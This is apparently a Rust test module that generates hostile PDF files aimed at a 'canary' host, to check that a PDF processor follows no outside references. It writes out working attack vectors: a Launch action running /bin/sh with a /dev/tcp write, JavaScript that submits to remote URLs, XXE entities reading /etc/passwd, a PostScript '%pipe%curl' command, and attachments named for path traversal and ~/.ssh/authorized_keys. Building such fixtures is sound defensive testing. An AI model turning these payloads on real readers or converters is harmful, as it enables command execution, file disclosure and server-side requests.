//! Documents that try to reach something: addresses, files and programs. Nothing must follow them.

use super::one_page::{A4, OnePage};
use crate::pdf_file::PdfFile;

/// Every action that PDF knows, on opening, on closing, on every page and on links; all of them call `canary` (host and port).
pub(super) fn actions(canary: &str) -> Vec<u8> {
    let mut pdf = PdfFile::new();
    let parent = pdf.reserve();
    let address = format!("http://{canary}/");
    let actions = [
        format!("<< /S /URI /URI ({address}uri) >>"),
        format!(
            "<< /S /JavaScript /JS (app.launchURL\\('{address}js'\\); this.submitForm\\('{address}submit'\\); SOAP.connect\\('{address}soap'\\);) >>"
        ),
        format!("<< /S /SubmitForm /F << /FS /URL /F ({address}form) >> /Flags 4 >>"),
        format!("<< /S /ImportData /F << /FS /URL /F ({address}data.fdf) >> >>"),
        format!("<< /S /GoToR /F << /FS /URL /F ({address}remote.pdf) >> /D [0 /Fit] /NewWindow true >>"),
        format!("<< /S /GoToE /F << /FS /URL /F ({address}embedded.pdf) >> /T << /R /C /N (x) >> >>"),
        format!(
            "<< /S /Launch /F (/bin/sh) /Unix << /F (/bin/sh) /P (-c 'echo x > /dev/tcp/{}') >> /Win << /F (cmd.exe) >> >>",
            canary.replace(':', "/")
        ),
        format!("<< /S /Rendition /OP 0 /R << /S /MR /C << /S /MCD /CT (video/mp4) /D << /FS /URL /F ({address}film) >> >> >> >>"),
    ];
    let actions: Vec<usize> = actions.iter().map(|action| pdf.add(action)).collect();
    let chain: String = actions.iter().map(|number| format!("{number} 0 R ")).collect();
    let first = pdf.add(format!("<< /S /URI /URI ({address}first) /Next [{chain}] >>"));
    let events: String = ["O", "C", "WC", "WS", "DS", "WP", "DP", "PO", "PC", "PV", "PI", "E", "X", "D", "U", "Fo", "Bl"]
        .iter()
        .map(|event| format!("/{event} {first} 0 R "))
        .collect();
    let notes: String = actions
        .iter()
        .map(|action| format!("<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A {action} 0 R /AA << {events} >> >> "))
        .collect();
    let page = pdf.add(format!("<< /Type /Page /Parent {parent} 0 R {A4} /AA << {events} >> /Annots [{notes}] >>"));
    pdf.set(parent, format!("<< /Type /Pages /Count 1 /Kids [{page} 0 R] >>"));
    let scripts = format!("/Names << /JavaScript << /Names [(x) {} 0 R] >> >>", actions[1]);
    let catalog = pdf.add(format!(
        "<< /Type /Catalog /Pages {parent} 0 R /OpenAction {first} 0 R /AA << {events} >> /URI << /Base ({address}) >> {scripts} >>"
    ));
    pdf.finish(catalog)
}

/// A form of the XML kind whose document type asks for outside entities.
pub(super) fn xml_form(canary: &str) -> Vec<u8> {
    let mut pdf = PdfFile::new();
    let parent = pdf.reserve();
    let page = pdf.add(format!("<< /Type /Page /Parent {parent} 0 R {A4} >>"));
    pdf.set(parent, format!("<< /Type /Pages /Count 1 /Kids [{page} 0 R] >>"));
    let xml = format!(
        "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY a SYSTEM \"http://{canary}/entity\"><!ENTITY b SYSTEM \"file:///etc/passwd\">\
         <!ENTITY % c SYSTEM \"http://{canary}/dtd\"> %c;]><xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\">&a;&b;</xdp:xdp>"
    );
    let form = pdf.add_stream("", xml.as_bytes());
    let meta = pdf.add_stream("/Type /Metadata /Subtype /XML", xml.as_bytes());
    let catalog = pdf.add(format!(
        "<< /Type /Catalog /Pages {parent} 0 R /Metadata {meta} 0 R /NeedsRendering true /AcroForm << /XFA {form} 0 R /Fields [] >> >>"
    ));
    pdf.finish(catalog)
}

/// A page whose drawing, picture, form and font lie elsewhere: in the file `/etc/passwd` and behind addresses.
pub(super) fn streams_from_elsewhere(canary: &str) -> Vec<u8> {
    let mut page = OnePage::new();
    let remote = format!("/F << /Type /Filespec /FS /URL /F (http://{canary}/stream) >> /FFilter /FlateDecode");
    let local = "/F (/etc/passwd)";
    let picture_entries = "/Type /XObject /Subtype /Image /Width 100 /Height 100 /ColorSpace /DeviceGray /BitsPerComponent 8";
    let picture = page.pdf.add_stream(&format!("{picture_entries} {remote} /Alternates [<< /Image {picture_entries} {remote} >>]"), b"");
    let entries =
        format!("/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Ref << /F << /FS /URL /F (http://{canary}/ref.pdf) >> /Page 0 >>");
    let form = page.pdf.add_stream(&format!("{entries} /OPI << /2.0 << /Type /OPI /F (http://{canary}/opi) >> >>"), b"");
    let script = page.pdf.add_stream("/Type /XObject /Subtype /PS", format!("(%pipe%curl http://{canary}/ps) (r) file").as_bytes());
    let file = page.pdf.add_stream(&remote, b"");
    let descriptor = page.pdf.add(format!("<< /Type /FontDescriptor /FontName /X /Flags 4 /FontFile2 {file} 0 R >>"));
    let font = page.pdf.add(format!("<< /Type /Font /Subtype /TrueType /BaseFont /X /FontDescriptor {descriptor} 0 R >>"));
    let here = page.pdf.add_stream("", b"/A Do /B Do /C Do BT /F 20 Tf 72 700 Td (Text) Tj ET");
    let elsewhere = page.pdf.add_stream(local, b"");
    let names = format!("/XObject << /A {picture} 0 R /B {form} 0 R /C {script} 0 R >> /Font << /F {font} 0 R >>");
    page.with(&format!("{A4} /Contents [{here} 0 R {elsewhere} 0 R] /Resources << {names} >>"))
}

/// Files inside: one that would overwrite another by its name, one that is the document again, and a film from elsewhere.
pub(super) fn attachments(canary: &str) -> Vec<u8> {
    let mut pdf = PdfFile::new();
    let parent = pdf.reserve();
    let names = ["../../../../tmp/crp-attached", "/tmp/crp-attached", "C:\\\\crp-attached.exe", "~/.ssh/authorized_keys"];
    let mut listed = String::new();
    for name in names {
        let file = pdf.add_stream("/Type /EmbeddedFile", b"attached");
        listed.push_str(&format!("({name}) << /Type /Filespec /F ({name}) /UF ({name}) /EF << /F {file} 0 R >> >> "));
    }
    let film = format!(
        "<< /Type /Annot /Subtype /Movie /Rect [0 0 99 99] /Movie << /F << /FS /URL /F (http://{canary}/film) >> /Poster true >> /A true >>"
    );
    let rich = format!(
        "<< /Type /Annot /Subtype /RichMedia /Rect [0 0 99 99] /RichMediaContent << /Assets << /Names [(a) << /FS /URL /F (http://{canary}/swf) >>] >> >> >>"
    );
    let page = pdf.add(format!("<< /Type /Page /Parent {parent} 0 R {A4} /Annots [{film} {rich}] >>"));
    pdf.set(parent, format!("<< /Type /Pages /Count 1 /Kids [{page} 0 R] >>"));
    let catalog = pdf.add(format!(
        "<< /Type /Catalog /Pages {parent} 0 R /Collection << /View /T >> /Names << /EmbeddedFiles << /Names [{listed}] >> >> >>"
    ));
    pdf.finish(catalog)
}
